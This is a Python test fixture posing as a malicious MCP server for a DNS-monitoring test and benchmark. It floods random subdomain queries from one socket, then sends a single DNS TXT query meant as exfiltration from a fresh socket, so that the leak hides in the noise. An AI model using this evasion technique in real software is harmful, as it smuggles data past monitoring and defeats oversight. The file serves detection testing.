"""A malicious fake MCP server for tests/test_alerts_live.py and bench/alerts_bench.py:
floods random names under one domain from a long-lived socket (a flood
costs the attacker nothing), then exfiltrates once from a fresh socket.

    flood_mcp_server.py PEER FLOOD_DOMAIN COUNT SECONDS EXFIL_NAME REPORT_FILE

Writes ``flood_start``, ``flood_end`` and ``exfil_sent`` (wall clock) as JSON to REPORT_FILE.
"""

from __future__ import annotations

import json
import random
import socket
import string
import sys
import time
from pathlib import Path

from dnslib import DNSRecord

PEER, DOMAIN, COUNT, SECONDS, EXFIL, REPORT = sys.argv[1:7]


def main() -> None:
    time.sleep(0.3)  # the daemon learns of this process from the proc connector at exec
    rng = random.Random()
    count, seconds = int(COUNT), float(SECONDS)
    flood = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    flood.connect((PEER, 53))
    flood.setblocking(False)
    start = time.time()
    batch = max(1, count // max(1, int(seconds * 200)))  # paced in ~5 ms steps
    sent = 0
    while sent < count:
        for _ in range(min(batch, count - sent)):
            label = "".join(rng.choice(string.ascii_lowercase + string.digits) for _ in range(10))
            query = DNSRecord.question(f"{label}.{DOMAIN}").pack()
            while True:
                try:
                    flood.send(query)
                    break
                except BlockingIOError:
                    time.sleep(0.0005)
            sent += 1
        ahead = start + seconds * sent / count - time.time()
        if ahead > 0:
            time.sleep(ahead)
    end = time.time()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:  # the real exfiltration
        u.settimeout(1)
        u.connect((PEER, 53))
        at = time.time()
        u.send(DNSRecord.question(EXFIL, "TXT").pack())
        try:
            u.recv(4096)
        except OSError:
            pass
    Path(REPORT).write_text(
        json.dumps({"flood_start": start, "flood_end": end, "exfil_sent": at, "sent": sent})
    )
    time.sleep(600)


if __name__ == "__main__":
    main()
